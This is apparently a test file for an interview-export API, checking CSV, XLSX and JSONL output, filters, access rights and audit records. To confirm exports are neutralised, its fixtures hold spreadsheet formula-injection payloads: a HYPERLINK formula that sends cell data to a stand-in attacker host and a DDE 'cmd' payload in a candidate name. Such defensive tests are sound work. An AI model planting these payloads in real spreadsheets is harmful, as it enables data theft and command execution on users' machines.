import { readSheet } from "read-excel-file/node";
import { beforeAll, describe, expect, inject, test } from "vitest";
import { db } from "../../lib/db/client.ts";
import { createApiKey } from "../../lib/keys/create-api-key.ts";
import { createUser } from "../../lib/members/create-user.ts";
import { interviewMaker } from "../../lib/testing/interviews.ts";
import { assessedInterview } from "../support/assessed-interview.ts";
import { expectRefusal, get, send } from "../support/client.ts";
import { MODEL_ANALYSIS } from "../support/given-analyses.ts";
import { signIn } from "../support/sign-in.ts";
import { newTenant, type Tenant } from "../support/tenant.ts";

const ADDRESS = "/api/v1/exports/interviews";
const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")';

let tenant: Tenant;
let interviewId: string;

beforeAll(async () => {
  tenant = await newTenant();
  const answers = [{ text: FORMULA }, { text: 'She said "no", then\r\nleft.' }];
  const made = await assessedInterview(tenant.actor, [{ ...MODEL_ANALYSIS, overallFeedback: FORMULA }], answers);
  interviewId = made.id;
  await db().candidate.update({ where: { id: made.candidateId }, data: { name: "+cmd|' /C calc'!A0" } });
});

function download(query: string, apiKey = tenant.apiKey): Promise<Response> {
  return fetch(new URL(`${ADDRESS}?${query}`, inject("baseUrl")), { headers: { authorization: `Bearer ${apiKey}` } });
}

/** By the rules of RFC 4180 alone. */
function parseCsv(text: string): string[][] {
  const fields = [...text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)];
  const rows: string[][] = [[]];
  for (const [all, quoted, plain, end] of fields) {
    if (all === "" && rows.at(-1)?.length === 0) break;
    rows.at(-1)?.push(quoted === undefined ? (plain ?? "") : quoted.replaceAll('""', '"'));
    if (end === "\r\n") rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

function asObject(names: readonly unknown[], row: readonly unknown[]): Record<string, unknown> {
  return Object.fromEntries(names.map((name, index) => [String(name), row[index]]));
}

test("an export has a row for each interview, with all 28 documented columns, scores and decision", async () => {
  const answer = await download("format=csv");
  expect(answer.headers.get("content-type")).toContain("text/csv");
  expect(answer.headers.get("content-disposition")).toMatch(/^attachment; filename="interviews-\d{4}-\d\d-\d\d\.csv"$/);
  const [names = [], ...rows] = parseCsv(await answer.text());
  expect(rows).toHaveLength(1);
  const documented = await db().$queryRaw<{ column_name: string }[]>`
    SELECT column_name FROM information_schema.columns WHERE table_name = 'candidate_interviews' AND column_name <> 'candidate_id'`;
  expect(documented).toHaveLength(28);
  expect(names).toEqual(expect.arrayContaining(documented.map(({ column_name }) => column_name)));
  const row = asObject(names, rows[0] ?? []);
  expect(row).toMatchObject({
    interview_id: interviewId,
    state: "completed",
    overall_score: "71.5",
    interview_ai_technical_score: "75",
    interview_final_status: "needs_review",
    interview_total_questions: "3",
    decision: "",
  });
});

test("what a candidate wrote is never a formula in a CSV, and comes back whole", async () => {
  const [names = [], row = []] = parseCsv(await (await download("format=csv")).text());
  const cells = asObject(names, row);
  expect(cells.candidate_name).toBe("'+cmd|' /C calc'!A0");
  expect(cells.interview_ai_overall_feedback).toBe(`'${FORMULA}`);
  expect(JSON.parse(String(cells.interview_answers_given))).toEqual([FORMULA, 'She said "no", then\r\nleft.']);
  for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
});

test("a CSV begins with a byte order mark for Excel when asked to", async () => {
  const start = async (query: string) => new Uint8Array(await (await download(query)).arrayBuffer()).subarray(0, 3);
  expect([...(await start("format=csv&bom=1"))]).toEqual([0xef, 0xbb, 0xbf]);
  expect(new TextDecoder().decode(await start("format=csv"))).toBe("int");
});

test("a workbook is opened by a reader of its own: texts are texts, numbers are numbers", async () => {
  const answer = await download("format=xlsx");
  expect(answer.headers.get("content-type")).toContain("spreadsheetml.sheet");
  const [names = [], row = [], ...rest] = await readSheet(Buffer.from(await answer.arrayBuffer()));
  expect(rest).toEqual([]);
  const cells = asObject(names, row);
  expect(cells).toMatchObject({
    interview_id: interviewId,
    candidate_name: "+cmd|' /C calc'!A0",
    interview_ai_overall_feedback: FORMULA,
    overall_score: 71.5,
    interview_total_questions: 3,
    decision: null,
  });
});

test("JSON lines have JSON where other formats have text with JSON in it", async () => {
  const lines = (await (await download("format=jsonl")).text()).trimEnd().split("\n");
  expect(lines.map((line) => JSON.parse(line))).toMatchObject([
    {
      interview_id: interviewId,
      interview_answers_given: [FORMULA, 'She said "no", then\r\nleft.'],
      overall_score: 71.5,
    },
  ]);
});

describe("filters", () => {
  test("narrow an export as they narrow the list, and pages of rows make one file", async () => {
    const many = await newTenant();
    const make = await interviewMaker(many.actor);
    for (let number = 0; number < 205; number++) {
      await make({
        name: number % 2 ? "Odd One" : "Even One",
        email: `${number}@example.com`,
        createdAt: new Date(1_800_000_000_000 + (number >> 1)),
      });
    }
    const emails = async (query: string) => {
      const text = await (await download(`format=jsonl&${query}`, many.apiKey)).text();
      return text
        .trimEnd()
        .split("\n")
        .filter(Boolean)
        .map((line) => JSON.parse(line).candidate_email);
    };
    const all = await emails("");
    expect(new Set(all).size).toBe(205);
    expect(all).toHaveLength(205);
    expect(await emails("search=odd")).toHaveLength(102);
    expect(await emails("state=completed")).toEqual([]);
    expect(await emails("state=invited&search=7%40example.com")).toHaveLength(20);
    expect(await emails("invited_before=2000-01-01T00:00:00Z")).toEqual([]);
    const workbook = await readSheet(Buffer.from(await (await download("format=xlsx", many.apiKey)).arrayBuffer()));
    expect(workbook).toHaveLength(206);
  });

  test("that make no sense are refused", async () => {
    for (const query of ["format=pdf", "state=lost", "bom=2", "invited_after=yesterday", "template_id=x", "nosuch=1"]) {
      expectRefusal(await get(`${ADDRESS}?${query}`, tenant.apiKey), 422, "invalid_fields");
    }
  });
});

test("an export is for owners, recruiters and keys that read, of their own organisation, and leaves a line in the record", async () => {
  expectRefusal(await get(ADDRESS), 401, "unauthenticated");
  const stranger = await newTenant();
  expect(await (await download("format=jsonl", stranger.apiKey)).text()).toBe("");
  const { plain: sandboxKey } = await createApiKey({ name: "sandbox", kind: "test" }, tenant.actor);
  expect(await (await download("format=jsonl", sandboxKey)).text()).toBe("");
  const { plain: writeOnly } = await createApiKey({ name: "writer", scopes: ["write"] }, tenant.actor);
  expectRefusal(await get(ADDRESS, writeOnly), 403, "forbidden");
  const reviewer = { email: `${crypto.randomUUID()}@example.com`, password: crypto.randomUUID() };
  await createUser({ ...reviewer, name: "Rob Reviewer", role: "reviewer" }, tenant.actor);
  expectRefusal(await send("GET", ADDRESS, { headers: { cookie: await signIn(reviewer) } }), 403, "forbidden");
  const where = { organizationId: stranger.actor.organizationId, action: "export.made" };
  expect(await db().auditEvent.findMany({ where })).toMatchObject([
    { actorKind: "api_key", detail: { format: "jsonl" } },
  ]);
});
